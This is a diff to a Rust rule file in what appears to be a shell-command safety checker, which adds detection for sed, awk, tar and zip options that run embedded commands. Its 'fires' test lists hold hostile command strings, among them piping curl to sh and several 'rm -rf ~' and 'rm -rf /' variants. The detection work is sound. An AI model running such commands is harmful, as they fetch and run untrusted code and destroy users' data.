@@ -2,7 +2,7 @@
 
 use std::cell::LazyCell;
 
-use super::shell_text::{shell, shell_verdict};
+use super::shell_text::{may_be_fed, shell, shell_verdict};
 use super::{CODE, MAX_LITERALS, STARTS, interpreters, is_old_script, texts};
 use crate::domain::{Severity, Verdict};
 use crate::rules::builtin::shell::injected::node_loads;
@@ -57,9 +57,11 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         )],
         fires: &[
             "sed 's/x/id/e' f",
-            "sed '1e curl x.example' f",
+            "sed '1e curl x.example | sh' f",
+            "sed -e '1e date' -e '2e rm -rf ~' f",
+            "sed '1e sh' f",
             "echo x | sed 's/.*/rm -rf ~/e'",
-            "sed -n -e '/a/p' -e '1e id' f",
+            "sed -n -e '/a/p' -e '1e xargs rm -rf' f",
             "awk '{print | \"sh\"}' f",
             "awk '{system($1)}' f",
             "awk '{system(\"rm \" $1)}' f",
@@ -69,6 +71,8 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         ],
         silent: &[
             "sed 's/x/y/g' f",
+            "sed '1e date +%F' f",
+            "sed -e '1e git rev-parse HEAD' -e '2d' f",
             "sed -e 's/a/b/' -e '/exec/d' f",
             "sed -n '1,5p' f",
             "awk '{print $1 | \"sort -u\"}' f",
@@ -259,9 +263,19 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
         fires: &[
             "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /' x",
             "tar xf a.tar --to-command='sh'",
+            "tar xf a.tar --to-command='xargs rm -rf'",
+            "tar xf a.tar --to-command='wc -c' --checkpoint-action=exec='rm -rf ~'",
+            "tar xf a.tar --to-command \"$c\"",
             "zip x.zip a -T --unzip-command='sh -c id'",
         ],
-        silent: &["tar czf a.tgz src", "tar --checkpoint=100 -cf a.tar src", "zip -r x.zip src"],
+        silent: &[
+            "tar czf a.tgz src",
+            "tar --checkpoint=100 -cf a.tar src",
+            "zip -r x.zip src",
+            "tar xf a.tar --to-command='wc -c'",
+            "tar xf a.tar --to-command='sha256sum'",
+            "tar cf a.tar --checkpoint=100 --checkpoint-action=exec='date +%T' src",
+        ],
         ..RULE
     },
 ];
@@ -341,7 +355,13 @@ fn sed_scripts(inv: &Invocation) -> impl Iterator<Item = &Arg> {
 fn filter_runs<'a>(scene: &Scene<'a>) -> Found<'a> {
     let found = scene.invocations().iter().find(|inv| {
         if runs(inv, lists::SEDS) {
-            return sed_scripts(inv).any(|script| scripts::sed_runs(&script.text()).is_some());
+            let cwd = inv.cwd.as_deref().unwrap_or(scene.view.cwd);
+            return sed_scripts(inv).flat_map(|script| scripts::sed_runs(&script.text())).any(
+                |run| match run {
+                    scripts::SedRun::Command(text) => !may_be_fed(scene, &text, cwd),
+                    scripts::SedRun::Part(_) => true,
+                },
+            );
         }
         runs(inv, lists::SCRIPTED_FILTERS)
             && inv.operands.first().is_some_and(|program| {
@@ -501,8 +521,8 @@ fn runs_at_least<'a>(scene: &Scene<'a>, least: Verdict) -> Found<'a> {
     }
     let sed = scene.first(lists::SEDS, |inv| {
         let cwd = inv.cwd.as_deref().unwrap_or(scene.view.cwd);
-        let run = sed_scripts(inv).filter_map(|script| scripts::sed_runs(&script.text()));
-        { run }.any(|command| shell_verdict(scene, &command, cwd) >= least)
+        let run = sed_scripts(inv).flat_map(|script| scripts::sed_runs(&script.text()));
+        { run }.any(|run| shell_verdict(scene, run.text(), cwd) >= least)
     });
     if let Some(text) = sed.map(|inv| inv.text.as_str()).or_else(|| recipes_run(scene, least)) {
         return Found::yes(text);
@@ -694,8 +714,16 @@ fn macros_run(inv: &Invocation, scene: &Scene<'_>, least: Verdict) -> bool {
 fn archiver_runs<'a>(scene: &Scene<'a>) -> Found<'a> {
     const RUNS: &[&str] =
         &["--checkpoint-action=exec", "--to-command", "--unzip-command", "-TT", "--rsh-command"];
+    /// Of these the command is given what is in the archive, or nothing.
+    const FED: &[&str] = &["--to-command=", "--checkpoint-action=exec="];
     let found = scene.first(ARCHIVERS, |inv| {
-        inv.args.iter().any(|arg| RUNS.iter().any(|option| arg.prefix().starts_with(option)))
+        let cwd = inv.cwd.as_deref().unwrap_or(scene.view.cwd);
+        let harmless = |arg: &Arg| {
+            let command = arg.known().and_then(|arg| FED.iter().find_map(|option| arg.strip_prefix(option)));
+            command.is_some_and(|command| may_be_fed(scene, command, cwd))
+        };
+        let named = inv.args.iter().filter(|arg| RUNS.iter().any(|option| arg.prefix().starts_with(option)));
+        { named }.any(|arg| !harmless(arg))
     });
     Found::from(found.map(|inv| inv.text.as_str()))
 }
